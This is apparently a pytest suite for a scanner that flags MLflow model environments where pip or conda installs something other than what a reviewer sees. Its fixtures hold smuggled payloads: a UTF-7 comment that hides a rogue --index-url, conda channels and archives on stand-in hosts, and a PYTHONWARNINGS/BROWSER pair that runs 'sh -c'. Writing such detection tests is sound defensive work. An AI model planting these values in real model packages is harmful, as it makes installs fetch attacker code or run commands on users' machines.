"""Red team 82s (proofs: /work/redteam-82s): an MLflow model's environment read otherwise than pip
and conda read it. 82s-1: pip decodes a requirements file by its ``coding:`` declaration (a
``utf-7`` comment line held ``+AAo-``, a newline to pip, then ``--index-url``), treats ``file:…``
as a URL (absolute, %-decoded: ``file:/proc/self/cwd/x``), expands ``${VAR}``; an include naming no
file of the folder was skipped silently. 82s-2: ``conda env create`` installs from the conda file's
channels (any URL or anaconda.org account), ``channel::package`` specs, URLs, paths and archives,
and runs the packages' post-link and activate.d scripts."""

from __future__ import annotations

from pathlib import Path

import pytest

from mlbom.formats import mlmodel
from mlbom.scanner import FileScan, scan

PYENV = ("flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    env:\n"
         "      virtualenv: python_env.yaml\n")
CONDA = ("flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    env:\n      conda: conda.yaml\n")


def _model(tmp_path: Path, files: dict[str, str | bytes], mlmodel_text: str = PYENV) -> FileScan:
    d = tmp_path / "m"
    env = {"python_env.yaml": "python: 3.11\ndependencies: [-r requirements.txt]\n"} if mlmodel_text == PYENV else {}
    for name, text in {"MLmodel": mlmodel_text, **env, **files}.items():
        (d / name).parent.mkdir(parents=True, exist_ok=True)
        (d / name).write_bytes(text.encode() if isinstance(text, str) else text)
    return {Path(r.path).name: r for r in scan([d])}["MLmodel"]


EVIL = "--index-url http://127.0.0.1:8782/simple/\nevil82s\n"


@pytest.mark.parametrize("req", ["-r file:/proc/self/cwd/extra.txt", "-r file:%2Fproc/self/cwd/ex%74ra.txt",
                                 "-r ${HOME}/extra.txt", "-c ${PWD}/extra.txt", "-r https://example.com/r.txt",
                                 "-r missing.txt"])
def test_82s1_includes_pip_reads_otherwise_are_suspicious(tmp_path: Path, req: str) -> None:
    r = _model(tmp_path, {"requirements.txt": f"numpy\n{req}\n", "extra.txt": "scikit-learn\n"})
    assert r.verdict == "suspicious", r.findings


def test_82s1_a_utf7_requirements_file_is_suspicious(tmp_path: Path) -> None:
    text = "# -*- coding: utf-7 -*-\nnumpy\n# pinned versions +AAo---index-url http://127.0.0.1:8782/simple/ +AAo-evil82s\n"
    assert text.encode("utf-7").decode("utf-7") == text
    pip_sees = text.encode().decode("utf-7")
    assert "\n--index-url http://127.0.0.1:8782/simple/ \nevil82s" in pip_sees  # what pip reads
    r = _model(tmp_path, {"requirements.txt": text})
    assert r.verdict == "suspicious" and any("utf-7" in f.message for f in r.findings), r.findings


@pytest.mark.parametrize("first", ["# -*- coding: utf-8 -*-", "# coding=ascii", "# vim: set fileencoding=utf-8 :"])
def test_82s1_a_utf8_declaration_stays_clean(tmp_path: Path, first: str) -> None:
    r = _model(tmp_path, {"requirements.txt": f"{first}\nnumpy==2.0\n"})
    assert r.verdict == "safe", r.findings


def test_82s1_a_file_both_listed_and_included_is_named_once(tmp_path: Path) -> None:
    r = _model(tmp_path, {"requirements.txt": "-r ${HOME}/x.txt\n"})
    (msg,) = [f.message for f in r.findings if f.id == "mlmodel.install-from-source"]
    assert msg.count("${HOME}/x.txt") == 1, msg


@pytest.mark.parametrize("conda", [
    "channels: [http://127.0.0.1:8782/conda]\ndependencies: [python=3.11]\n",
    "channels: [evil82s-channel]\ndependencies: [python=3.11]\n",
    "channels: [conda-forge]\ndependencies: [python=3.11, 'evil82s-channel::numpy']\n",
    "channels: [conda-forge]\ndependencies: [python=3.11, 'http://127.0.0.1:8782/conda/noarch/evil-1.0-0.tar.bz2']\n",
    "channels: [conda-forge]\ndependencies: [python=3.11, ./evil82s-1.0-0.conda]\n",
    "channels: [conda-forge]\ndependencies: [python=3.11, evil-1.0-0.tar.bz2]\n",
    "channels: [conda-forge]\ndependencies: [python=3.11, 'file:///tmp/chan::numpy']\n",
    "channels: conda-forge\ndependencies: [python=3.11, 'https://evil.example/chan::numpy']\n",
])
def test_82s2_conda_sources_outside_the_usual_channels_are_suspicious(tmp_path: Path, conda: str) -> None:
    r = _model(tmp_path, {"conda.yaml": conda}, CONDA)
    assert r.verdict == "suspicious" and "mlmodel.install-from-source" in {f.id for f in r.findings}, r.findings


@pytest.mark.parametrize("conda", [
    "name: mlflow-env\nchannels:\n- conda-forge\ndependencies:\n- python=3.10.12\n- pip<=23.0\n- pip:\n  - mlflow==2.9\n"
    "  - scikit-learn==1.3.2\n",
    "channels: [defaults, pytorch, nvidia]\ndependencies: [python=3.11, 'pytorch::pytorch>=2', 'conda-forge::numpy']\n",
    "channels: [nodefaults, pkgs/main]\ndependencies: ['python>=3.10,<3.12', 'numpy[build=py311*]']\n",
])
def test_82s2_usual_conda_files_stay_clean(tmp_path: Path, conda: str) -> None:
    r = _model(tmp_path, {"conda.yaml": conda}, CONDA)
    assert r.verdict == "safe", r.findings


def test_82s_pip_coding_matches_pip_s_rule() -> None:
    assert mlmodel.pip_coding("# coding: latin-1\nnumpy\n") is not None
    assert mlmodel.pip_coding("numpy\n# coding: utf-16\n") is not None  # the second line counts
    assert mlmodel.pip_coding("numpy\nscipy\n# coding: utf-7\n") is None  # the third does not
    assert mlmodel.pip_coding("# coding: no-such-codec\n") is not None


# --- red team 83s-2, 83s-3 (proofs: /work/redteam-83s/f2_mlflow_model, f3_mlflow_model) -------------

def test_83s2_a_coding_line_pip_finds_after_a_bare_cr_is_suspicious(tmp_path: Path) -> None:
    """pip splits on ``\\n`` only: ``# pinned\\r\\r`` is its first line and the declaration its second;
    ``str.splitlines`` made the declaration the third."""
    text = "# pinned\r\r\n# -*- coding: utf-7 -*-\nnumpy==2.0  # +AAo---extra-index-url http://127.0.0.1:8783/simple/\n"
    assert mlmodel.pip_coding(text) is not None
    r = _model(tmp_path, {"requirements.txt": text})
    assert r.verdict == "suspicious", r.findings


def test_83s2_pip_reads_a_declaration_only_in_a_comment_and_after_no_bom(tmp_path: Path) -> None:
    assert mlmodel.pip_coding("numpy  # coding: utf-7\n") is None  # not a comment line: pip ignores it
    assert mlmodel.pip_coding("\ufeff# coding: utf-7\nnumpy\n") is None  # the BOM decides (UTF-8)
    r = _model(tmp_path, {"requirements.txt": b"\xef\xbb\xbf# coding: utf-7\nnumpy==2.0\n"})
    assert r.verdict == "safe", r.findings


def test_83s3_conda_variables_are_suspicious(tmp_path: Path) -> None:
    conda = ("channels: [conda-forge]\ndependencies: [python=3.11]\n"
             "variables:\n  PYTHONWARNINGS: 'ignore::antigravity.x'\n  BROWSER: \"sh -c 'touch /tmp/x' #%s\"\n")
    r = _model(tmp_path, {"conda.yaml": conda}, CONDA)
    assert r.verdict == "suspicious" and any("PYTHONWARNINGS" in f.message for f in r.findings), r.findings
